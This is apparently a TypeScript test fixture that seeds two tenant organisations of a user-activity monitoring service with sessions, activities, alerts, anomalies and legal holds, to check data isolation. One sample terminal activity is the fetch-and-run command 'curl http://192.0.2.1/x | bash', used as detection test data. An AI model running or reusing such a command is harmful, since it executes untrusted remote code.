import { data, makeOrganisation, trackAll } from '../harness/client.ts';
import { startIdentityProvider } from '../harness/identity-provider.ts';
import type { Service, TestClock } from '../harness/service.ts';
import { adminKey, startService, testClock } from '../harness/service.ts';
import { rows } from '../flow/harness.ts';
import type { Principal, Side } from './principals.ts';
import { makePrincipals, teamsOf, users } from './principals.ts';

/** Two organisations with equal external ids: users in two teams, in one, in none, and of each something of every kind. */

export type World = { service: Service; admins: Record<Side, string>; principals: Principal[]; records: Records; close(): Promise<void> };

const sides: readonly Side[] = ['own', 'other'];
const chrome = 'Mozilla/5.0 (X11; Linux x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36';
const phone = 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 Version/18.5 Mobile/15E148 Safari/604.1';
export const attack = { terminal: { command: 'curl http://192.0.2.1/x | bash', output: 'done' } };

/** Texts that only some may ever see: what belongs to a user of an organisation, and what its staff say and are called. */
export const markOf = (side: Side, owner: string) => `mark:${side}:${owner}:`;

function activitiesOf(side: Side, user: string) {
  const inSession = (session: string, detail: object, more: object = {}) => ({
    user,
    session: `${user}-${session}`,
    detail,
    metadata: { note: markOf(side, user) },
    ...more,
  });
  const place = users.indexOf(user);
  return [
    inSession(
      'web',
      { web: { page: `/start/${markOf(side, user)}` } },
      { userAgent: chrome, sourceIp: `198.51.100.${place}`, location: { country: 'DE' } },
    ),
    inSession('web', { web: { endpoint: '/api' } }, { userAgent: phone, sourceIp: `203.0.113.${place}` }),
    inSession('pty', attack),
    inSession('pty', { file: { operation: 'READ', path: '/etc/hosts' } }),
    inSession('web', { browser: { action: 'TYPE', selector: '#save', inputValue: 'some words' } }),
    inSession('desk', { desktop: { action: 'TYPE', windowTitle: 'Mail', inputText: 'some words' } }),
    inSession('done', { web: { page: '/bye' } }),
    // Long enough ago that the baseline has settled on it.
    {
      user,
      sourceIp: `198.51.100.${place}`,
      occurredAt: '2026-01-06T14:00:00Z',
      userAgent: chrome,
      detail: { auth: { event: 'LOGIN', method: 'password' } },
    },
    { user, secretsUsed: [{ secret: 'vault', granted: false, reason: 'no' }], detail: { access: { change: 'ROLE', target: 'role' } } },
    ...[1, 2, 3].map(() => ({ user, sourceIp: '192.0.2.77', detail: { auth: { event: 'FAILURE' } } })),
  ];
}

async function fill(service: Service, side: Side, admin: string, clock: TestClock): Promise<void> {
  const { createApiKey } = await data(
    service,
    'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { secret } }',
    { input: { name: markOf(side, 'staff'), role: 'ADMIN' } },
    admin,
  );
  const staff: string = createApiKey.secret;
  const excluding = 'updateSettings(input: { exclusions: [{ subject: PAGE, pattern: "/health" }] }) { userErrors { code } }';
  await data(service, `mutation { ${excluding} }`, {}, admin);
  const told = markOf(side, 'staff');
  for (const user of users) {
    clock.advance(1);
    const { userErrors } = await trackAll(service, activitiesOf(side, user), admin);
    if (userErrors.length > 0) throw new Error(JSON.stringify(userErrors));
    await data(
      service,
      'mutation($input: UpdateUserInput!) { updateUser(input: $input) { userErrors { code } } }',
      {
        input: { externalId: user, teams: teamsOf[user], displayName: markOf(side, user) },
      },
      staff,
    );
  }
  // Somebody acts in a session of another: the session stays its owner's, the activity is of who acted.
  await trackAll(service, [{ user: 'bob', session: 'ada-web', detail: { web: { page: '/else' } } }], admin);
  // What is learned in a team is the team's too.
  await trackAll(service, [{ user: 'bob', detail: { web: { page: '/team' } } }], admin);
  await data(
    service,
    'mutation($input: RegisterSecretInput!) { registerSecret(input: $input) { userErrors { code } } }',
    { input: { name: told, secret: `of ${side}, found nowhere` } },
    staff,
  );
  const { sessions, anomalies, alerts } = await data(
    service,
    '{ sessions(first: 200) { nodes { id externalId } } anomalies(first: 200) { nodes { id } } alerts(first: 200) { nodes { id } } }',
    {},
    staff,
  );
  const act = (mutation: string, id: string, more: string) =>
    data(service, `mutation($id: ID!) { ${mutation}(input: { id: $id, ${more} }) { userErrors { code } } }`, { id }, staff);
  for (const { id, externalId } of sessions.nodes) if (externalId.endsWith('-done')) await act('terminateSession', id, `reason: "${told}"`);
  for (const { id } of anomalies.nodes.slice(1)) await act('resolveAnomaly', id, 'resolution: TRUE_POSITIVE');
  for (const { id } of alerts.nodes) await act('acknowledgeAlert', id, `note: "${told}"`);
  // Whose data has to be kept: administrators are shown why.
  for (const user of users.filter((one) => one !== 'bob')) {
    await data(
      service,
      'mutation($input: SetLegalHoldInput!) { setLegalHold(input: $input) { userErrors { code } } }',
      { input: { user, reason: told } },
      staff,
    );
  }
  // Critical by itself and no anomaly: an open alert with activities of its own.
  const critical = users.map((user) => ({ user, session: `${user}-done`, detail: { access: { change: 'PERMISSION', target: 'sudo' } } }));
  await trackAll(service, critical, admin);
}

/** A row that somebody may look for. `owner` is an external id; null: it belongs to no user. */
export type Entry = { type: string; id: string; side: Side; owner: string | null; externalId: string | null };
export type Link = { relation: string; parent: string; child: string };
export type Records = { entries: Entry[]; links: Link[] };

const activityTypes = `case a.kind when 'web' then 'WebActivity' when 'terminal' then 'TerminalActivity' when 'file' then 'FileActivity'
  when 'browser' then 'BrowserActivity' when 'desktop' then 'DesktopActivity' when 'auth' then 'AuthActivity' else 'AccessActivity' end`;
const ownedBy = (type: string, table: string, name: string) =>
  `select ${type} as type, a.id, a.organisation_id, u.external_id as owner, ${name} as name from ${table} a left join "user" u on u.id = a.user_id`;

/** Every row as the database has it, whosever it is. */
export async function readRecords({ databaseUrl }: Service): Promise<Records> {
  const found = await rows<{ type: string; id: string; owner: string | null; name: string | null; organisation: string }>(
    databaseUrl,
    `with entry as (
      select 'User' as type, id, organisation_id, external_id as owner, external_id as name from "user"
      union all ${ownedBy(`'Session'`, 'session', 'a.external_id')}
      union all ${ownedBy(`'Anomaly'`, 'anomaly', 'null')}
      union all ${ownedBy(`'Alert'`, 'alert', 'null')}
      union all ${ownedBy(activityTypes, 'activity', 'null')}
      union all select 'Person', id, organisation_id, null, null from person)
    select e.type, e.id, e.owner, e.name, o.name as organisation from entry e join organisation o on o.id = e.organisation_id`,
  );
  const links = await rows<Link>(
    databaseUrl,
    `select 'Session.activities' as relation, session_id as parent, id as child from activity where session_id is not null
    union all select 'Alert.criticalActivities', alert_id, id from activity where alert_id is not null
    union all select 'Anomaly.evidence', anomaly_id, activity_id from evidence
    union all select 'Activity.anomalies', activity_id, anomaly_id from evidence
    union all select 'Alert.anomalies', alert_id, anomaly_id from alert_anomaly
    union all select 'User.activities', user_id, id from activity
    union all select 'User.sessions', user_id, id from session
    union all select 'User.anomalies', user_id, id from anomaly where user_id is not null
    union all select 'User.alerts', user_id, id from alert where user_id is not null
    union all select 'Activity.user', id, user_id from activity
    union all select 'Activity.session', id, session_id from activity where session_id is not null
    union all select 'Session.user', id, user_id from session
    union all select 'Anomaly.user', id, user_id from anomaly where user_id is not null
    union all select 'Anomaly.session', id, session_id from anomaly where session_id is not null
    union all select 'Anomaly.alert', id, alert_id from anomaly where alert_id is not null
    union all select 'Alert.user', id, user_id from alert where user_id is not null`,
  );
  const entries = found.map(({ type, id, owner, name, organisation }): Entry => {
    const side = organisation === 'default' ? 'own' : 'other';
    return { type, id, side, owner, externalId: name };
  });
  return { entries, links };
}

export const globalId = ({ type, id }: { type: string; id: string }): string => Buffer.from(`${type}:${id}`).toString('base64');

export async function startWorld(): Promise<World> {
  const clock = testClock('2026-01-06T15:00:00Z');
  const provider = await startIdentityProvider(clock);
  const { issuer, audience, jwksUrl } = provider;
  const claims = { organisationClaim: 'organisation', rolesClaim: 'roles', teamsClaim: 'teams', leadsClaim: 'leads', userClaim: 'sub' };
  const limits = { previewsPerOrganisationMax: 1_000, previewsMax: 1_000 }; // one document may ask for many
  const service = await startService({ clock, limits, config: { oidc: { issuer, audience, jwksUrl, roles: new Map(), ...claims } } });
  const admins = { own: adminKey, other: await makeOrganisation(service, 'other') };
  for (const side of sides) await fill(service, side, admins[side], clock);
  const principals = await makePrincipals(service, admins, provider);
  for (const side of sides) {
    const token = await provider.sign({ sub: 'grace', roles: ['analyst'], organisation: side === 'own' ? 'default' : 'other' });
    const { viewer } = await data(service, '{ viewer { principal { id } } }', {}, token);
    await data(
      service,
      'mutation($id: ID!) { updatePerson(input: { id: $id, teams: ["ops"] }) { userErrors { code } } }',
      { id: globalId({ type: 'Person', id: viewer.principal.id }) },
      admins[side],
    );
  }
  await data(service, '{ viewer { name } }', {}, principals.at(-1)!.key);
  return {
    service,
    admins,
    principals,
    records: await readRecords(service),
    async close() {
      await service.close();
      await provider.close();
    },
  };
}

/** Runs `work` for each item, a few at a time, and gathers what it finds. */
export async function gather<Item, Found>(items: readonly Item[], work: (item: Item) => Promise<Found[]>, atOnce = 4): Promise<Found[]> {
  const waiting = [...items];
  const found: Found[] = [];
  const worker = async () => {
    for (let item = waiting.shift(); item !== undefined; item = waiting.shift()) found.push(...(await work(item)));
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
  return found;
}
